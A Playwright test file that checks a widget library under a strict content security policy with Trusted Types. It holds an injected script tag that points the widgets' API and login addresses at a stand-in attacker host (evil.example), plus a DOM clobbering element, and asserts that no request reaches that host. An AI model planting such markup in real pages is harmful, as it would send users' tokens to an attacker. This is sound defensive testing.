/**
 * The widgets on a host with a strict content security policy (demo-host `/csp/selection/:id`):
 * scripts by nonce only, no inline styles, Trusted Types required. Nothing may be refused.
 */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';

/** Every `securitypolicyviolation` of the page, as "directive ← blocked URI (source)". */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener(
      'securitypolicyviolation',
      (event) =>
        w.__violations.push(`${event.effectiveDirective} ← ${event.blockedURI || 'inline'} (${event.sourceFile}:${event.lineNumber})`),
      true,
    );
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the japan-food home with its guide and the sneakers review tab cause no CSP or Trusted Types violation', async ({
  page,
  scenarios,
  pageErrors,
}) => {
  const violations = await recordViolations(page);
  const response = await page.goto(`/csp/selection/${scenarios['japan-food']}`);
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).toMatch(/script-src 'nonce-[^']+' 'strict-dynamic'/);
  expect(policy).toContain("style-src 'self';");

  const home = page.locator('selection-home');
  await expect(home.locator('[part~="product-grid"] li').first()).toBeVisible();
  await expect(home.locator('[part~="pick-slider"] [part~="product-card"]').first()).toBeVisible();
  // The first-visit guide (Swiper slides) is part of the page here: step through it.
  const guide = page.locator('selection-guide [part="guide"]');
  await expect(guide).toBeVisible();
  await guide.getByRole('button', { name: '다음' }).first().click();
  await home.getByRole('tab').nth(1).click({ force: true });
  await expect(home.locator('[part~="product-grid"] li').first()).toBeVisible();

  await page.goto(`/csp/selection/${scenarios.sneakers}?tab=1`);
  await expect(home.locator('[part~="vote-card"]').first()).toBeVisible();
  await expect(home.locator('[part~="review-request"]').first()).toBeVisible();
  expect(await violations()).toEqual([]);
  expect(pageErrors).toEqual([]);

  // The policy is really enforced and heard: an HTML sink without a policy is refused.
  const probe = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>';
      return 'allowed';
    } catch {
      return 'refused';
    }
  });
  expect(probe).toBe('refused');
  await expect.poll(violations).toEqual([expect.stringContaining('require-trusted-types-for')]);
});

for (const [where, address] of [
  ['after the loader, at another address of its file', '/dist/selection-widgets.js?v=2'],
  ["before the loader, at the loader's own address", '/dist/selection-widgets.js'],
] as const) {
  test(`markup injected into the page ${where}, a tag naming an API of its own, configures nothing: the person's token goes nowhere else`, async ({
    page,
    scenarios,
  }) => {
    // What a page that prints a person's text unescaped would carry: the CSP refuses the tag to run,
    // but it stays in the document for anyone who reads the page's scripts.
    const evil = 'https://evil.example';
    const injected = `<script type="module" src="${address}" data-api-base="${evil}/api" data-legacy-api-base="${evil}/api_base" data-login-url="${evil}/login"></script>`;
    await page.route(/\/csp\/selection\//, async (route) => {
      const response = await route.fetch();
      const page = await response.text();
      // The page's own loader tag bare, as a host that configures by script has it (its settings here
      // the defaults: this host's /api, /api_base, /login).
      const own = /<script type="module" src="\/dist\/selection-widgets\.js"[^>]*>/.exec(page)?.[0] ?? '';
      const bare = own.replace(/\s+data-[a-z-]+="[^"]*"/g, '');
      expect(bare).toMatch(/nonce="[^"]+"/);
      expect(bare).not.toContain('data-');
      const withBare = page.replace(own, bare);
      const body = address.includes('?')
        ? withBare.replace('<selection-home', `${injected}<selection-home`)
        : withBare.replace(bare, `${injected}${bare}`);
      expect(body).toContain(injected);
      await route.fulfill({ response, body });
    });
    const toEvil: string[] = [];
    await page.route(`${evil}/**`, (route) => {
      toEvil.push(`${route.request().method()} ${route.request().url()}`);
      return route.abort();
    });
    const warnings: string[] = [];
    page.on('console', (message) => void (message.type() === 'warning' && warnings.push(message.text())));
    await page.goto(`/csp/selection/${scenarios['japan-food']}`);
    await expect(page.locator('selection-home [part~="product-grid"] li').first()).toBeVisible();
    expect(toEvil).toEqual([]);
    // Two tags of its own address that disagree: neither is read, and the console says so.
    expect(
      warnings.some((text) => text.includes('SW015')),
      warnings.join('\n'),
    ).toBe(!address.includes('?'));
  });
}

test('an element named SelectionWidgets in the markup (window.SelectionWidgets by its name) does not keep the widgets from starting', async ({
  page,
  scenarios,
}) => {
  await page.route(/\/csp\/selection\//, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<body>', '<body><img name="SelectionWidgets" alt="">');
    expect(body).toContain('<img name="SelectionWidgets"');
    await route.fulfill({ response, body });
  });
  await page.goto(`/csp/selection/${scenarios['japan-food']}`);
  await expect(page.locator('selection-home [part~="product-grid"] li').first()).toBeVisible();
  expect(await page.evaluate(() => typeof window.SelectionWidgets?.configure)).toBe('function');
});
